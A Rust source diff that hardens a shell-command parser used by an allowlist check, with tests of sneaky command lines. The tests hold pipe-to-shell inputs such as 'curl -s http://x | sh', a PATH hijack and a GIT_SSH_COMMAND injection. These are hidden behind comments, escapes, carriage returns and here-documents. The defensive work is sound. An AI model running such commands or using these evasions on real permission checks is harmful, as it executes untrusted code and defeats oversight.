@@ -99,53 +99,77 @@ fn is_assignment(word: &str) -> bool {
 
 /// Splits at the list operators outside quotes (`;`, `&`, `|`, newline, parentheses; not the
 /// `&` of a redirection such as `2>&1`); drops comments (`#` starting a word, to the line's
-/// end, quotes in it meaning nothing, as the shell reads it); flags substitutions (`` ` ``,
-/// `$(`, `<(`, `>(`) and unterminated quotes as opaque.
+/// end, quotes in it meaning nothing, as the shell reads it); flags as opaque what it does not
+/// follow: substitutions (`` ` ``, `$(`, `<(`, `>(`), here-documents (`<<`), `$'...'` quoting
+/// (whose `\'` does not end it) and unterminated quotes.
 fn split_list(text: &str) -> (Vec<String>, bool) {
     let mut pieces = Vec::new();
     let mut current = String::new();
     let mut opaque = false;
     let mut single = false;
     let mut double = false;
-    let mut previous: Option<char> = None;
+    // The shell's reading state: the next character starts a word (only space, tab and
+    // newline separate words, and operators end them); the last one was an unquoted,
+    // unescaped `>` or `<` (so `&` after it is a redirection's, as in `2>&1`).
+    let mut word_start = true;
+    let mut after_redirect = false;
     let mut chars = text.chars().peekable();
     while let Some(c) = chars.next() {
         if single {
             single = c != '\'';
             current.push(c);
-            previous = Some(c);
             continue;
         }
-        let word_start = previous.is_none_or(|p| p.is_whitespace() || ";&|()".contains(p));
         if c == '#' && !double && word_start {
             // A comment: nothing of it runs; the newline that ends it ends the command.
             for skipped in chars.by_ref() {
                 if skipped == '\n' {
-                    pieces.push(std::mem::take(&mut current));
                     break;
                 }
             }
-            previous = Some('\n');
+            pieces.push(std::mem::take(&mut current));
+            (word_start, after_redirect) = (true, false);
             continue;
         }
-        let redirection = c == '&' && matches!(previous, Some('>') | Some('<'));
-        previous = Some(c);
-        match c {
-            '\\' => {
-                current.push(c);
-                if let Some(next) = chars.next() {
+        if c == '\\' {
+            match chars.next() {
+                // A line continuation vanishes: the state before it goes on.
+                Some('\n') => {}
+                Some(next) => {
+                    current.push(c);
                     current.push(next);
-                    previous = Some(next);
+                    (word_start, after_redirect) = (false, false);
                 }
-                continue;
+                None => current.push(c),
             }
+            continue;
+        }
+        if double {
+            match c {
+                '"' => double = false,
+                '`' => opaque = true,
+                '$' if chars.peek() == Some(&'(') => opaque = true,
+                _ => {}
+            }
+            current.push(c);
+            (word_start, after_redirect) = (false, false);
+            continue;
+        }
+        let redirection_amp = c == '&' && after_redirect;
+        (word_start, after_redirect) = (false, false);
+        match c {
             '`' => opaque = true,
             '$' | '<' | '>' if chars.peek() == Some(&'(') => opaque = true,
-            '"' => double = !double,
-            '\'' if !double => single = true,
-            '&' if redirection => {}
-            ';' | '&' | '|' | '\n' | '(' | ')' if !double => {
+            '$' if chars.peek() == Some(&'\'') => opaque = true,
+            '<' if chars.peek() == Some(&'<') => opaque = true,
+            '"' => double = true,
+            '\'' => single = true,
+            ' ' | '\t' => word_start = true,
+            '<' | '>' => (word_start, after_redirect) = (true, true),
+            '&' if redirection_amp => word_start = true,
+            ';' | '&' | '|' | '\n' | '(' | ')' => {
                 pieces.push(std::mem::take(&mut current));
+                word_start = true;
                 continue;
             }
             _ => {}
@@ -191,6 +215,15 @@ mod tests {
             // Assignments change what runs.
             "PATH=/tmp/evil:$PATH git status",
             "GIT_SSH_COMMAND='curl x|sh' git fetch",
+            // Only space, tab and newline separate words; an escaped character starts none.
+            "git status\r#; curl -s http://x | sh",
+            "git status\\ #; curl x",
+            "git status\\;#; curl x",
+            "git status\\\n#; curl x",
+            "git status \\>& curl -o /tmp/e http://x",
+            // Here-documents and $'..' quoting are not followed: never allowed.
+            "git log <<E\ngit '\nE\ncurl x #'",
+            "git log $'\\'' ; curl x | sh #'",
         ] {
             assert!(
                 !CommandLine::parse(sneaky).all_start_with(&git, false),
@@ -223,6 +256,9 @@ mod tests {
             // Quotes inside a comment do not hide the next line's substitution.
             "echo # '\n$(curl x) #'",
             "echo hi #\ncurl x",
+            "cat <<E\n'\nE\ncurl http://x | sh #'",
+            "git status\\ #; curl x",
+            "git status\r#; curl x",
         ] {
             assert!(CommandLine::parse(caught).mentions(&curl), "{caught:?}");
         }
